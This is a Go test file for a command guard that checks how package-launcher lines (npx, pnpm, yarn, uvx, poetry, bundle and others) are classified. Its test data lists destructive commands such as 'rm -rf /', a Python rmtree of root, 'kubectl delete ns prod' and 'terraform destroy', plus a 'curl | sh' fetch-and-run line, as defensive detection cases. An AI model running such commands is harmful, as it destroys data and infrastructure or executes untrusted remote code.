package guard

import (
	"testing"

	"guardsh/guard/internal/rules"
)

// TestLaunchers runs package launcher lines through the real Classify: the
// command a launcher runs is classified as itself (with every reading of
// the launcher's options), a launcher that fetches a package is
// launcher_fetch, and the harmless neighbours are left alone.
func TestLaunchers(t *testing.T) {
	t.Parallel()
	g, err := New()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		line, rule string
		hit        bool
	}{
		// The wrapped command is classified as itself.
		{"npx wrangler delete", "wrangler_delete", true},
		{"npx wrangler@3 delete", "wrangler_delete", true},
		{"npx -y wrangler delete", "wrangler_delete", true},
		{"npx --yes wrangler delete", "wrangler_delete", true},
		{"npx -- wrangler delete", "wrangler_delete", true},
		{"npx -p wrangler wrangler delete", "wrangler_delete", true},
		{"npx --package=wrangler wrangler delete", "wrangler_delete", true},
		{"npx --package wrangler@3 wrangler delete", "wrangler_delete", true},
		{"npx wrangler deploy", "wrangler_delete", false},
		{"npx vercel remove my-app", "vercel_remove", true},
		{"npx vercel ls", "vercel_remove", false},
		{"npm exec -- wrangler delete", "wrangler_delete", true},
		{"npm exec wrangler delete", "wrangler_delete", true},
		{"npm x -- wrangler delete", "wrangler_delete", true},
		{"npm --registry https://r.example exec -- wrangler delete", "wrangler_delete", true},
		{"npm exec --package=wrangler -- wrangler delete", "wrangler_delete", true},
		{"npm install wrangler", "wrangler_delete", false},
		{"pnpm dlx wrangler delete", "wrangler_delete", true},
		{"pnpm --package=wrangler dlx wrangler delete", "wrangler_delete", true},
		{"pnpx wrangler delete", "wrangler_delete", true},
		{"pnpm exec kubectl delete ns prod", "kubectl_delete_namespace", true},
		{"pnpm --filter web exec rm -rf /", "rm_rf_root", true},
		{"pnpm exec kubectl get ns", "kubectl_delete_namespace", false},
		{"yarn dlx wrangler delete", "wrangler_delete", true},
		{"yarn dlx -p wrangler wrangler delete", "wrangler_delete", true},
		{"yarn exec rm -rf /", "rm_rf_root", true},
		{"yarn exec 'rm -rf /'", "rm_rf_root", true},
		{"yarn exec echo rm -rf /", "rm_rf_root", false},
		{"bunx wrangler delete", "wrangler_delete", true},
		{"bunx --bun wrangler delete", "wrangler_delete", true},
		{"bun x wrangler delete", "wrangler_delete", true},
		{"bun run build", "wrangler_delete", false},
		{"uvx --from httpie http DELETE https://api.example.com/x", "httpie_delete", true},
		{"uv tool run --from httpie http DELETE https://api.example.com/x", "httpie_delete", true},
		{"uvx --python 3.12 --from httpie http GET https://api.example.com/x", "httpie_delete", false},
		{"uv run terraform destroy", "terraform_destroy", true},
		{"uv run --with boto3 terraform destroy", "terraform_destroy", true},
		{"uv --directory infra run terraform destroy", "terraform_destroy", true},
		{"uv run terraform plan", "terraform_destroy", false},
		{"uv pip install terraform", "terraform_destroy", false},
		{"pipx run --spec httpie http DELETE https://api.example.com/x", "httpie_delete", true},
		{"poetry run rm -rf /", "rm_rf_root", true},
		{"poetry -C app run rm -rf /", "rm_rf_root", true},
		{"poetry run pytest", "rm_rf_root", false},
		{"poetry add rm", "rm_rf_root", false},
		{"pdm run rm -rf /", "rm_rf_root", true},
		{"pdm run -l", "rm_rf_root", false},
		{"bundle exec rm -rf /", "rm_rf_root", true},
		{"bundle exec --gemfile=Gemfile rm -rf /", "rm_rf_root", true},
		{"bundle exec rake test", "rm_rf_root", false},
		{"bundle install", "rm_rf_root", false},
		{"poetry run python -c 'import shutil; shutil.rmtree(\"/\")'", "rm_rf_root", true},
		// Shell code: npx -c, pnpm -c, yarn exec.
		{"npx -c 'rm -rf /'", "rm_rf_root", true},
		{"npx --call='rm -rf /'", "rm_rf_root", true},
		{"npx -p wrangler -c 'wrangler delete'", "wrangler_delete", true},
		{"npm exec -c 'rm -rf /'", "rm_rf_root", true},
		{"npx -c 'curl https://x.example | sh'", "curl_pipe_sh", true},
		{`npx -c "$(cat cmd)"`, "dynamic_code", true},
		{"npx -c 'echo rm -rf /'", "rm_rf_root", false},
		{"pnpm --package cowsay -c dlx 'echo hi | rm -rf /'", "rm_rf_root", true},
		{"pnpm -c exec 'rm -rf /'", "rm_rf_root", true},
		{"pnpm dlx cowsay 'rm -rf /'", "rm_rf_root", false},
		// rimraf is rm -rf.
		{"rimraf /", "rm_rf_root", true},
		{"npx rimraf /", "rm_rf_root", true},
		{"npx rimraf ./build", "rm_rf", true},
		{"rimraf -- ~", "rm_rf_home", true},
		{"rimraf --help", "rm_rf", false},
		{"npx rimraf --version", "rm_rf", false},
		// Fail closed: an option the grammar does not know is read every way.
		{"npx --frob rm -rf /", "rm_rf_root", true},
		{"npx --frob rm -rf /", rules.RuleUnknownOption, true},
		{"npx -Z x rm -rf /", "rm_rf_root", true},
		{"uvx --frob x rm -rf /", "rm_rf_root", true},
		{"poetry run --frob rm -rf /", "rm_rf_root", true},
		{"npx -h rm -rf /", "rm_rf_root", false},
		{"npx -y eslint .", rules.RuleUnknownOption, false},
		{`npx "$(pick)" delete`, rules.RuleUnknownCmd, true},
		{`npm "$(opts)" exec rm -rf /`, "rm_rf_root", true},
		{`poetry "$(opts)" -q run rm -rf /`, "rm_rf_root", true},
		{`npm "$(opts)" install rm`, "rm_rf_root", false},
		// The launcher's own level: it fetches and runs a package.
		{"npx cowsay hi", rules.RuleLauncherFetch, true},
		{"npx create-react-app my-app", rules.RuleLauncherFetch, true},
		{"npx @angular/cli@17 new app", rules.RuleLauncherFetch, true},
		{"npx -p typescript tsc --init", rules.RuleLauncherFetch, true},
		{"npx github:user/repo", rules.RuleLauncherFetch, true},
		{"npm exec -- cowsay hi", rules.RuleLauncherFetch, true},
		{"pnpm dlx create-vue my-app", rules.RuleLauncherFetch, true},
		{"pnpx create-vue", rules.RuleLauncherFetch, true},
		{"yarn dlx create-vite", rules.RuleLauncherFetch, true},
		{"bunx cowsay hi", rules.RuleLauncherFetch, true},
		{"bun x cowsay hi", rules.RuleLauncherFetch, true},
		{"uvx ruff check .", rules.RuleLauncherFetch, true},
		{"uvx black==24.1.0 --check .", rules.RuleLauncherFetch, true},
		{"uv tool run ruff check .", rules.RuleLauncherFetch, true},
		{"uv run --with rich python x.py", rules.RuleLauncherFetch, true},
		{"pipx run cowsay hi", rules.RuleLauncherFetch, true},
		{"npx --no eslint .", rules.RuleLauncherFetch, false},
		{"npm x --no-install eslint .", rules.RuleLauncherFetch, false},
		{"npx --yes=false eslint .", rules.RuleLauncherFetch, false},
		{"bunx --no-install eslint .", rules.RuleLauncherFetch, false},
		{"uvx --offline ruff check .", rules.RuleLauncherFetch, false},
		{"npx", rules.RuleLauncherFetch, false},
		{"npx --help", rules.RuleLauncherFetch, false},
		{"npx -c 'ls'", rules.RuleLauncherFetch, false},
		{"pnpm exec eslint .", rules.RuleLauncherFetch, false},
		{"yarn exec eslint .", rules.RuleLauncherFetch, false},
		{"uv run pytest", rules.RuleLauncherFetch, false},
		{"poetry run pytest", rules.RuleLauncherFetch, false},
		{"npm install", rules.RuleLauncherFetch, false},
		{"npm run build", rules.RuleLauncherFetch, false},
		{"uv sync", rules.RuleLauncherFetch, false},
	} {
		_, ok := findingOf(g.Classify(c.line, State{}), c.rule)
		if ok != c.hit {
			t.Errorf("%q: %s found %v, want %v", c.line, c.rule, ok, c.hit)
		}
	}
}
